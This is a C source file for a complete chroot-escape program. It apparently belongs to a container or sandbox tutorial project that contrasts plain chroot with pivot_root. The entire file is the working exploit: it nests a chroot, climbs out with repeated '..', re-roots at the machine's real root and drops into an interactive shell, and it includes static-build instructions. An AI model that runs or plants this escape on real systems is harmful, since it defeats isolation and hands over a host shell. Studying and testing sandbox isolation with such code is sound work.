/*
 * The chroot escape of the seeds (../shared/seeds: "Docker 없이 컨테이너
 * 만들기", "chroot と pivot_root"): make a directory, chroot into it while
 * the working directory stays outside the new root, climb with "..", which
 * the old root no longer stops, and chroot to where the climb ended.
 *
 * In a plain chroot this lands in the real root of the machine. After
 * pivot_root, with the old root detached, the top of the climb is the
 * sandbox's own root: there is nowhere else to go.
 *
 *   escape_chroot [CMD ARG...]    (default: an interactive /bin/sh)
 *
 * Build it static, so that it runs in an empty chroot too:
 *   gcc -static -O2 -o escape_chroot escape_chroot.c
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	mkdir(".out", 0755);
	if (chroot(".out") < 0) {
		perror("chroot .out");
		return 2;
	}
	/* The seeds climb five levels; climb further, for a deeper cwd. */
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		perror("chroot .");
		return 2;
	}
	if (argc > 1) {
		execvp(argv[1], argv + 1);
		perror(argv[1]);
		return 127;
	}
	execl("/bin/sh", "sh", "-i", (char *)NULL);
	perror("/bin/sh");
	return 127;
}
